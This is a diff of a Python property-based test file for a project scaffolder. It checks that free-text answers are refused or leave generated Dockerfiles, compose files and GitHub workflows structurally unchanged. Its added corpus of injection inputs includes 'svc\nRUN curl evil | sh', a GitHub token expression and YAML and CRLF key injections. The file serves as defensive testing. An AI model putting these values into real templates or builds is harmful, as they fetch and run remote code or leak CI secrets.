@@ -10,7 +10,6 @@ The question list and the context each question needs come from copier.yml.
 from __future__ import annotations
 
 import functools
-import os
 import re
 import subprocess
 import tempfile
@@ -19,7 +18,7 @@ from typing import Any
 
 import pytest
 import yaml
-from hypothesis import HealthCheck, assume, example, given, settings
+from hypothesis import HealthCheck, assume, given, settings
 from hypothesis import strategies as st
 
 from scaffold.answers import resolve
@@ -27,10 +26,7 @@ from scaffold.errors import InvalidAnswer
 
 from helpers import combinations, dockerfile_instructions, pipelines, questionnaire, render
 
-# Examples per question: `--hypothesis-profile long` (or HYPOTHESIS_PROFILE=long) runs more.
-settings.register_profile("default", max_examples=60, deadline=None)
-settings.register_profile("long", max_examples=1000, deadline=None)
-settings.load_profile(os.environ.get("HYPOTHESIS_PROFILE", "default"))
+# Examples per question: 60 (profile `bounded`); `pytest --hypothesis-profile long` runs 1000.
 
 # What breaks generated files: line breaks, quotes, YAML and shell syntax, GitHub expressions.
 NASTY = [
@@ -65,6 +61,10 @@ NASTY = [
     "\u2028",
     "é",
 ]
+
+
+def _question(name: str) -> Any:
+    return next(q for q in questionnaire() if q.name == name)
 
 
 def _free_text() -> list[str]:
@@ -128,30 +128,45 @@ def _near(name: str) -> st.SearchStrategy[str]:
     return st.one_of(spliced, st.text(max_size=40))
 
 
-@pytest.mark.parametrize("name", _free_text())
-def test_a_free_text_answer_is_refused_in_one_line_or_changes_no_structure(name: str) -> None:
-    @settings(suppress_health_check=[HealthCheck.too_slow])
-    @given(value=_near(name))
-    # The corpus: what hypothesis found, and what an attacker tries first.
-    @example(value="x\n")  # `$` in a validator regex matched before it (fixed: \\Z)
-    @example(value="no")  # a YAML 1.1 boolean as compose's service name (fixed: yaml_str)
-    @example(value="null")
-    @example(value="svc\nRUN curl evil | sh")
-    @example(value="${{ github.token }}")
-    @example(value="svc: {x: 1}")
-    def check(value: str) -> None:
-        given_answers = {**_context(name), name: value}
-        try:
-            answers = resolve(questionnaire(), given_answers, folder_name="svc", ask=None)
-        except InvalidAnswer as refused:
-            message = str(refused)
-            assert "\n" not in message and message.startswith(name), message
-            return
-        with tempfile.TemporaryDirectory() as scratch:
-            shape = _shape(render(answers, Path(scratch, "svc")), answers[name])
-        assert shape == _default_shape(name), f"{name}={value!r} changed the files' structure"
+def _refused_in_one_line_or_same_structure(name: str, value: str) -> None:
+    try:
+        answers = resolve(
+            questionnaire(), {**_context(name), name: value}, folder_name="svc", ask=None
+        )
+    except InvalidAnswer as refused:
+        message = str(refused)
+        assert "\n" not in message and message.startswith(name), message
+        return
+    with tempfile.TemporaryDirectory() as scratch:
+        shape = _shape(render(answers, Path(scratch, "svc")), answers[name])
+    assert shape == _default_shape(name), f"{name}={value!r} changed the files' structure"
 
-    check()
+
+@pytest.mark.parametrize("name", _free_text())
+@settings(suppress_health_check=[HealthCheck.too_slow])
+@given(data=st.data())
+def test_a_free_text_answer_is_refused_in_one_line_or_changes_no_structure(
+    name: str, data: st.DataObject
+) -> None:
+    _refused_in_one_line_or_same_structure(name, data.draw(_near(name), label=name))
+
+
+# The corpus: what hypothesis found, and what an attacker tries first, for every question.
+CORPUS = [
+    "x\n",  # `$` in a validator regex matched before a final newline (fixed: \\Z)
+    "no",  # a YAML 1.1 boolean as compose's service name (fixed: yaml_str)
+    "null",
+    "svc\nRUN curl evil | sh",
+    "${{ github.token }}",
+    "svc: {x: 1}",
+    "svc\r\n  injected: true",
+]
+
+
+@pytest.mark.parametrize("value", CORPUS)
+@pytest.mark.parametrize("name", _free_text())
+def test_the_corpus_is_refused_or_inert(name: str, value: str) -> None:
+    _refused_in_one_line_or_same_structure(name, value)
 
 
 # Where the default context narrows the validator's grammar: Python versions are 3.x, a Docker
@@ -166,38 +181,32 @@ def _pattern(name: str) -> str:
     """The regex the question's validator requires of the whole answer."""
     if name in NARROWER:
         return NARROWER[name]
-    question = next(q for q in questionnaire() if q.name == name)
-    found = re.search(rf"{name} \| regex_search\('(.+?)'\)", question.validator)
+    found = re.search(rf"{name} \| regex_search\('(.+?)'\)", _question(name).validator)
     assert found, f"{name} has no regex in its validator"
     return found.group(1).replace("\\\\", "\\").replace("\\Z", "")
 
 
-@pytest.mark.parametrize(
-    "name",
-    [n for n in _free_text() if next(q for q in questionnaire() if q.name == n).type == "str"],
-)
-def test_any_valid_free_text_answer_renders_files_the_linters_pass(name: str) -> None:
+@pytest.mark.parametrize("name", [n for n in _free_text() if _question(n).type == "str"])
+@settings(max_examples=8, suppress_health_check=[HealthCheck.too_slow])
+@given(data=st.data())
+def test_any_valid_free_text_answer_renders_files_the_linters_pass(
+    name: str, data: st.DataObject
+) -> None:
     """Answers drawn from the validator's own grammar: hadolint, actionlint and zizmor find
     nothing, and every YAML file still loads."""
-    questionnaire_ = questionnaire()
-
-    @settings(max_examples=8, suppress_health_check=[HealthCheck.too_slow])
-    @given(value=st.from_regex(_pattern(name), fullmatch=True))
-    def check(value: str) -> None:
-        try:
-            answers = resolve(
-                questionnaire_, {**_context(name), name: value}, folder_name="svc", ask=None
-            )
-        except InvalidAnswer:
-            assume(False)  # valid by the regex, refused by another rule (length, registry host)
-            return
-        with tempfile.TemporaryDirectory() as scratch:
-            folder = render(answers, Path(scratch, "svc"))
-            for path in folder.rglob("*.y*ml"):
-                yaml.safe_load(path.read_text())
-            assert _lint_output(folder) == [], f"{name}={value!r}"
-
-    check()
+    value = data.draw(st.from_regex(_pattern(name), fullmatch=True), label=name)
+    try:
+        answers = resolve(
+            questionnaire(), {**_context(name), name: value}, folder_name="svc", ask=None
+        )
+    except InvalidAnswer:
+        assume(False)  # valid by the regex, refused by another rule (length, registry host)
+        return
+    with tempfile.TemporaryDirectory() as scratch:
+        folder = render(answers, Path(scratch, "svc"))
+        for path in folder.rglob("*.y*ml"):
+            yaml.safe_load(path.read_text())
+        assert _lint_output(folder) == [], f"{name}={value!r}"
 
 
 def _lint_output(folder: Path) -> list[str]:
